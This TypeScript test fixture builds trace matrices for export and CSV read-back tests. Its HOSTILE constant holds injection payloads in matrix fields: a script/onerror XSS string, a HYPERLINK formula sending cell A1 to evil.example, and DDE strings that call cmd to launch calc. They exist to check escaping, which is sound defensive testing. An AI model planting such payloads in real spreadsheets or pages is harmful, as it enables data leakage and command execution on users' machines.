// Trace matrices for the export tests and the xlsx fixture script: a small one with hostile text in every field, and a
// generated one of any size for the size checks; and CSV read back the way our importer reads it.
import { CsvTokenizer } from '../../datasets/csv-tokenizer';
import { FieldTable, fieldText } from '../../datasets/field-table';
import type { TraceLinkStatus, TraceLinkType, TraceMatrix, TraceMatrixCell, TraceMatrixColumn, TraceMatrixRow } from '../../../shared/trace-matrix';

/** Text a spreadsheet or a browser would run if it were not escaped, plus characters XML cannot hold. */
export const HOSTILE = {
  script: '<script>alert("x")</script> & <img src=x onerror=alert(1)>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  dde: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  plus: '+1, "quoted", and a line\r\nbreak',
  control: 'bell\u0007 and nul\u0000 inside',
  /** how SpreadsheetML escapes a character, here as plain text that must read back as written */
  ooxml: 'literal _x0041_ and _x000D_',
} as const;

export function sampleMatrix(): TraceMatrix {
  const rows: TraceMatrixRow[] = [
    { id: 'SYS-1', title: 'The system shall flag assays', depth: 0, level: 'system', class: 'functional' },
    { id: 'SW-1', title: HOSTILE.script, depth: 1, level: 'software', class: 'performance' },
    { id: 'ML-1', title: HOSTILE.formula, depth: 2, level: 'ml-component', class: null },
    { id: 'ML-2', title: HOSTILE.plus, depth: 2, level: 'ml-component', class: HOSTILE.at },
    { id: '=ML-3', title: HOSTILE.control, depth: 3, level: null, class: null },
    { id: 'SW-2', title: 'Latency on the edge device 🚀', depth: 1, level: 'software', class: 'performance' },
  ];
  const columns: TraceMatrixColumn[] = [
    { kind: 'model_version', id: 'churn@2', label: 'churn@2 (production)' },
    { kind: 'dataset_version', id: 'assays@3', label: 'assays@3' },
    { kind: 'requirement', id: 'SYS-1', label: 'SYS-1' },
    { kind: 'evaluation', id: 'eval-1', label: HOSTILE.dde },
    { kind: 'dataset_version', id: 'assays@4', label: 'assays@4' },
    { kind: 'run', id: 'run-7', label: HOSTILE.ooxml },
    { kind: 'drift_report', id: 'drift-1', label: 'weekly drift' },
  ];
  const link = (row: number, column: number, linkType: TraceLinkType, status: TraceLinkStatus): TraceMatrixCell => ({ row, column, linkType, status });
  const cells: TraceMatrixCell[] = [
    link(1, 2, 'refines', 'ok'),
    link(2, 2, 'derived-from', 'suspect'),
    link(2, 1, 'trained-on', 'ok'),
    link(2, 5, 'satisfies', 'ok'),
    link(2, 3, 'verifies', 'ok'),
    link(2, 0, 'satisfies', 'ok'),
    link(2, 0, 'evaluated-by', 'failing'),
    link(3, 3, 'verifies', 'suspect'),
    link(3, 6, 'monitored-by', 'no-evidence'),
    link(5, 0, 'satisfies', 'ok'),
  ];
  return { title: 'Assay triage <v2> & "friends"', createdAt: '2026-11-28T08:00:00.000Z', rows, columns, cells };
}

/** rows x columns with `links` links spread over them (a seeded generator, so every run builds the same matrix). */
export function generatedMatrix(rowCount: number, columnCount: number, links: number): TraceMatrix {
  const kinds = ['dataset_version', 'run', 'model_version', 'evaluation', 'drift_report'] as const;
  const types: TraceLinkType[] = ['satisfies', 'verifies', 'trained-on', 'evaluated-by', 'monitored-by'];
  const statuses: TraceLinkStatus[] = ['ok', 'ok', 'ok', 'suspect', 'failing', 'no-evidence'];
  let seed = 12345;
  const next = (n: number): number => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    // the high bits: an LCG's low bits repeat with a short period
    return Math.floor((seed / 2 ** 32) * n);
  };
  const rows = Array.from({ length: rowCount }, (_, i) => ({ id: `REQ-${i}`, title: `The component ${i} shall respond within ${i % 97} ms`, depth: i % 4, level: 'software' as const, class: i % 3 === 0 ? 'performance' : null }));
  const columns = Array.from({ length: columnCount }, (_, i) => ({ kind: kinds[i % kinds.length], id: `artifact-${i}@${i % 7}`, label: `artifact ${i}` }));
  const seen = new Set<number>();
  const cells: TraceMatrixCell[] = [];
  while (cells.length < links) {
    const row = next(rowCount);
    const column = next(columnCount);
    const key = row * columnCount + column;
    if (seen.has(key)) continue;
    seen.add(key);
    cells.push({ row, column, linkType: types[next(types.length)], status: statuses[next(statuses.length)] });
  }
  return { title: 'generated', createdAt: '2026-11-28T08:00:00.000Z', rows, columns, cells };
}

/** The dataset importer's own tokenizer reads CSV back, so "RFC 4180" means what our import accepts. Blank lines are skipped. */
export function readCsv(text: string): string[][] {
  const table = new FieldTable();
  new CsvTokenizer(44, 'matrix.csv').feed(Buffer.from(text), true, table);
  return Array.from({ length: table.rows }, (_, r) => Array.from({ length: table.fieldCount(r) }, (_, i) => fieldText(table, table.rowStarts[r] + i)));
}
